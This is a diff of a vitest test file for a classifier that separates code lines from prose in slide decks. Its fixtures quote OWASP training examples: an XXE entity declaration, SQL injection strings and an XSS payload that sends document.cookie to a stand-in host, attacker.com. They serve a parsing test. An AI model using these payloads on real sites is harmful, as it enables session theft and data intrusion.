@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { codeComment, codeLanguage, isCodeLine, isShellCommandLine, labelledCommand, shellCommandName } from './code-lines.ts';
+import { codeComment, codeLanguage, isCodeLine, isShellCommandLine, labelledCommand, sentenceThenCode, shellCommandName } from './code-lines.ts';
 
 // Lines from the real decks (OWASP Top 10 2013, Microsoft's Git workshop, NIST OSCAL) and their prose neighbours.
 
@@ -58,6 +58,26 @@ describe('code lines', () => {
     expect(labelledCommand('git config --global core.editor "atom --wait"')).toBeNull();
     expect(labelledCommand('Use git to track every change of your files')).toBeNull();
     expect(labelledCommand('Make sure you run git status before you commit')).toBeNull();
+  });
+});
+
+describe('attack strings and code at the end of a sentence (the Hebrew OWASP 2017 deck, slides 8, 11 and 14)', () => {
+  it('takes a markup declaration and an injection string for code, and prose about them for prose', () => {
+    for (const line of ['<!ENTITY xxe SYSTEM "https://192.168.1.1/private" >]>', '<!DOCTYPE foo [', '<?xml version="1.0"?>',
+      '\' or \'1\'=\'1. לדוגמא: http://example.com/app/accountView?id=\' or \'1\'=\'1', '\') OR 1=1', '\'><script>alert(1)</script>\'.'])
+      expect(isCodeLine(line), line).toBe(true);
+    for (const line of ['Either use OR or AND in a search.', 'The attacker\'s \'id\' value is sent as is.', 'Type <Enter> to continue when asked.'])
+      expect(isCodeLine(line), line).toBe(false);
+  });
+
+  it('splits a sentence from the code it ends on, and leaves sentences ending on words alone', () => {
+    expect(sentenceThenCode('התוקף מעדכן את פרמטר ‘CC’ בדפדפן ל: \'><script>document.location= \'http://www.attacker.com/cgi-bin/cookie.cgi? foo=\'+document.cookie</script>\'.')).toEqual([
+      'התוקף מעדכן את פרמטר ‘CC’ בדפדפן ל:',
+      '\'><script>document.location= \'http://www.attacker.com/cgi-bin/cookie.cgi? foo=\'+document.cookie</script>\'.',
+    ]);
+    expect(sentenceThenCode('Scenario #1: The application uses untrusted data in the following HTML snippet.')).toBeNull();
+    expect(sentenceThenCode('For more details, read: https://www.owasp.org/index.php/Guide')).toBeNull();
+    expect(sentenceThenCode('Use: <b>bold</b>')).toBeNull();
   });
 });
 
